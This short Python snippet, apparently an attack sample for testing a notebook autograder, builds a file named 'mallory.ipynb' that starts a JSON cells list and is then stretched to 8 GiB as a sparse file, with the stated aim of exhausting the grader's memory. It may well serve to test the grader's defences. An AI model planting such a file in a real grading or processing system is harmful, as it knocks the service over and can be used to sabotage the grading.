# Aim: use up the grader's memory with a gigantic file.
def make(folder):
    with (folder / "mallory.ipynb").open("wb") as file:
        file.write(b'{"cells": [')
        file.truncate(2**33)  # sparse: it takes no room on the disk
